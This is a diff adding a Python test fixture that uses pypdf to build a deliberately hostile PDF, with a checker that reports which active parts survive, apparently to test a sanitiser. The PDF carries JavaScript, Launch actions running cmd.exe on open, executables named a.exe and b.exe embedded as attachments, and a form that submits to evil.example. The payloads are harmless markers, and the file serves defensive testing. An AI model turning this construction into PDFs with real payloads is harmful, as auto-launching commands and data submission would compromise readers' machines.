@@ -1,0 +1,121 @@
+"""PDFs with active content at every level, made with pypdf for the tests."""
+
+from __future__ import annotations
+
+import io
+
+from pypdf import PdfWriter
+from pypdf.generic import (
+    ArrayObject,
+    DecodedStreamObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
+
+SCRIPT = "app.alert('handouts-js-marker')"
+COMMAND = "cmd.exe"
+EMBEDDED = b"handouts-embedded-marker"
+WEB = "https://www.city.koganei.lg.jp/"
+
+
+def _name(value: str) -> NameObject:
+    return NameObject(value)
+
+
+def _dict(**entries: object) -> DictionaryObject:
+    return DictionaryObject({_name("/" + k): v for k, v in entries.items()})
+
+
+def _js() -> DictionaryObject:
+    return _dict(S=_name("/JavaScript"), JS=TextStringObject(SCRIPT))
+
+
+def _launch() -> DictionaryObject:
+    return _dict(S=_name("/Launch"), F=TextStringObject(COMMAND))
+
+
+def _link(writer: PdfWriter, action: DictionaryObject, y: int) -> object:
+    rect = ArrayObject([NumberObject(50), NumberObject(y), NumberObject(200), NumberObject(y + 20)])
+    return writer._add_object(
+        _dict(Type=_name("/Annot"), Subtype=_name("/Link"), Rect=rect, A=action)
+    )
+
+
+def hostile_pdf(pages: int = 2) -> bytes:
+    """Page /AA with JavaScript, links running JavaScript and Launch (one chained by /Next),
+    a web link, a file attachment annotation, a widget with a submit action, and document
+    level OpenAction, JavaScript and embedded files."""
+    writer = PdfWriter()
+    for _ in range(pages):
+        writer.add_blank_page(595, 842)
+    page = writer.pages[0]
+    page[_name("/AA")] = _dict(O=_js())
+    chained = _dict(S=_name("/URI"), URI=TextStringObject(WEB), Next=_launch())
+    file_stream = DecodedStreamObject()
+    file_stream.set_data(EMBEDDED)
+    file_stream[_name("/Type")] = _name("/EmbeddedFile")
+    filespec = _dict(
+        Type=_name("/Filespec"),
+        F=TextStringObject("a.exe"),
+        EF=_dict(F=writer._add_object(file_stream)),
+    )
+    rect = ArrayObject([NumberObject(300), NumberObject(300), NumberObject(320), NumberObject(320)])
+    attachment = writer._add_object(
+        _dict(Type=_name("/Annot"), Subtype=_name("/FileAttachment"), Rect=rect, FS=filespec)
+    )
+    widget = writer._add_object(
+        _dict(
+            Type=_name("/Annot"),
+            Subtype=_name("/Widget"),
+            Rect=rect,
+            FT=_name("/Tx"),
+            T=TextStringObject("name"),
+            A=_dict(S=_name("/SubmitForm"), F=TextStringObject("https://evil.example/")),
+            AA=_dict(K=_js()),
+        )
+    )
+    page[_name("/Annots")] = ArrayObject(
+        [
+            _link(writer, _js(), 100),
+            _link(writer, _launch(), 150),
+            _link(writer, chained, 200),
+            _link(writer, _dict(S=_name("/URI"), URI=TextStringObject(WEB)), 250),
+            attachment,
+            widget,
+        ]
+    )
+    writer.add_attachment("b.exe", EMBEDDED)
+    names = writer._root_object["/Names"]
+    names[_name("/JavaScript")] = _dict(
+        Names=ArrayObject([TextStringObject("a"), writer._add_object(_js())])
+    )
+    writer._root_object[_name("/OpenAction")] = _launch()
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def active_markers(pdf: bytes) -> list[str]:
+    """Which of the active things made above are still in `pdf`, read object by object."""
+    from pypdf import PdfReader
+
+    reader = PdfReader(io.BytesIO(pdf))
+    found = set()
+    for number in range(1, reader.trailer["/Size"]):
+        try:
+            obj = reader.get_object(number)
+        except Exception:
+            continue
+        text = repr(obj)
+        if hasattr(obj, "get_data"):
+            text += repr(obj.get_data())
+        names = ("/JavaScript", "/Launch", "/SubmitForm", "/FileAttachment", "/EmbeddedFile", "/AA")
+        for marker in names:
+            if f"'{marker}'" in text:  # the name itself, not one that merely starts alike
+                found.add(marker)
+        for marker in (SCRIPT, COMMAND, EMBEDDED.decode()):
+            if marker in text:
+                found.add(marker)
+    return sorted(found)
